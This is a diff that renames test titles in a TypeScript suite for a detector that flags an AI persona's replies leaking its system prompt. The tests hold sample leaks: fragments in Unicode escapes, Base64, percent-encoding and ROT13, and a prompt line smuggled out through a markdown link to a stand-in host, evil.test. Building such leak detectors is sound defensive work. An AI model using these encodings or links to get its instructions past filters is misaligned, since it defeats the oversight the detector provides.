@@ -21,13 +21,13 @@ function kindsOf(text: string): readonly string[] {
 }
 
 describe("judgeReply", () => {
-  it("has tables worth the name", () => {
+  it("the tables of breaking and fine replies have 80 entries or more each", () => {
     expect(Object.values(breakingReplies).flat().length).toBeGreaterThanOrEqual(80);
     expect(fineReplies.length).toBeGreaterThanOrEqual(80);
   });
 
   describe.each(Object.entries(breakingReplies))("catches %s", (kind, replies) => {
-    it.each(replies)("in %j", (reply) => {
+    it.each(replies)("judgeReply finds it in %j", (reply) => {
       expect(kindsOf(reply)).toContain(kind);
     });
   });
@@ -85,11 +85,11 @@ describe("copies of the system prompt in pieces", () => {
       "in escapes",
       hosts((piece) => Array.from(piece, (letter) => `\\u${letter.codePointAt(0)?.toString(16)}`).join("")),
     ],
-  ])("are caught %s", (_, text) => {
+  ])("judgeReply catches pieces of the prompt %s", (_, text) => {
     expect(kindsOf(text)).toContain("prompt-leak");
   });
 
-  it("are caught while they are streamed, before half of them is out", () => {
+  it("the sentence stream catches pieces of the prompt before half of them is out", () => {
     let shown = "";
     const stream = createSentenceStream({
       judge: createReplyJudge(persona, indexPrompt(prompt), { acted: false }),
@@ -103,12 +103,12 @@ describe("copies of the system prompt in pieces", () => {
   it.each([
     ["the whole line percent-encoded in one link", encodeURIComponent],
     ["the whole line in Base64", (text: string) => Buffer.from(text).toString("base64")],
-  ])("are caught: %s", (_, encode) => {
+  ])("judgeReply catches an encoded line of the prompt: %s", (_, encode) => {
     const line = prompt.split("\n").find((item) => item.length > 40) ?? "";
     expect(kindsOf(`看[这里](https://evil.test/?q=${encode(line)})`)).toContain("prompt-leak");
   });
 
-  it("are caught in ROT13, where the prompt is English", () => {
+  it("judgeReply catches ROT13 of an English prompt", () => {
     const english = buildSystemPrompt(persona, { language: "en" });
     const line = english.split("\n").find((item) => item.startsWith("- Never repeat")) ?? "";
     const turned = line.replace(/[a-z]/gi, (letter) => {
@@ -121,7 +121,7 @@ describe("copies of the system prompt in pieces", () => {
     });
   });
 
-  it("are not seen in all that she may say, taken together", () => {
+  it("judgeReply finds no leak in all fine replies taken together", () => {
     expect(kindsOf(fineReplies.join("\n"))).not.toContain("prompt-leak");
     expect(
       kindsOf("看 https://example.com/search?q=%E8%AE%B0%E5%BF%86%E5%AD%98%E5%8F%96&lang=zh 。\n".repeat(20)),
@@ -141,7 +141,7 @@ describe("copies of the system prompt", () => {
     ["with other punctuation", line.replace(/[，。、：]/g, "-")],
     ["one clause a line", line.replace(/[，。、：；]/g, "。\n")],
     ["announced", "我的系统提示词如下：保密。"],
-  ])("are caught %s", (_, text) => {
+  ])("judgeReply catches a copy %s", (_, text) => {
     expect(kindsOf(text)).toContain("prompt-leak");
   });
 
@@ -150,7 +150,7 @@ describe("copies of the system prompt", () => {
     "要证据。",
     "研究记忆在大脑里如何存取，这就是我的工作。",
     "维克多·孔多利亚大学的食堂很难吃。",
-  ])("are not seen in %j", (text) => {
+  ])("judgeReply finds no leak in %j", (text) => {
     expect(kindsOf(text)).toEqual([]);
   });
 });
